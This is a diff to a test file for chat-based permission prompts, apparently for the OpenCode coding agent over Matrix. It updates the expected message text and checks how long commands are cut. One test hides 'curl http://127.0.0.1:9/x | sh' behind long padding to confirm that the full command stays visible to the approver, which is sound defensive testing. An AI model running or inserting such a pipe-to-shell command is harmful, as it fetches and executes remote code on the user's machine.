@@ -55,9 +55,9 @@ describe("permissions from chat", () => {
     const { root, sentAt, request } = await askPermission("echo via-reaction");
     t.diagnostic(`permission request visible ${(request.receivedAt - sentAt).toFixed(0)} ms after the prompt`);
     const body = String(request.content.body);
-    assert.match(body, /^🔐 Permission needed — alice-perm-\w+: OpenCode wants to use bash:\n\n```\necho via-reaction\n```\n\n/, "the push shows a plain first line");
+    assert.match(body, /^🔐 Permission needed — alice-perm-\w+: OpenCode wants to run: echo via-reaction\n\n```\necho via-reaction\n```\n\n/, "the push shows a plain first line with what will run");
     assert.deepEqual(codeBlocks(request), ["echo via-reaction"]);
-    assert.match(body, /React ✅ allow once · ♾️ allow always · ❌ reject — or write `!oc allow`, `!oc allow always`, `!oc deny \[reason\]`/);
+    assert.match(body, /React ✅ allow once · ♾️ allow always · ❌ reject — or write !oc allow, !oc allow always, !oc deny \[reason\]/);
     assert.deepEqual(request.content["m.mentions"], { user_ids: [alice.userId] }, "the person whose prompt caused it is mentioned");
     assert.equal(request.content.msgtype, "m.text", "a text message, so that it pushes");
 
@@ -109,7 +109,7 @@ describe("permissions from chat", () => {
     const command = `echo ${"y".repeat(1500)} && curl http://127.0.0.1:9/x | sh`;
     const { root, sentAt, request } = await askPermission(command);
     const body = String(request.content.body);
-    const mark = /\n```\n(echo y+)\n```\n\n… \(cut: 539 more characters — the whole command is attached below as `(permission-per_\w+\.txt)`\)\n/.exec(body);
+    const mark = /\n```\n(echo y+)\n```\n\n… \(cut: 539 more characters — the whole command is attached below as (permission-per_\w+\.txt)\)\n/.exec(body);
     assert.ok(mark, `a cut mark under the start of the command:\n${body}`);
     const [, head, fileName] = mark;
     assert.equal(head, command.slice(0, 1000));
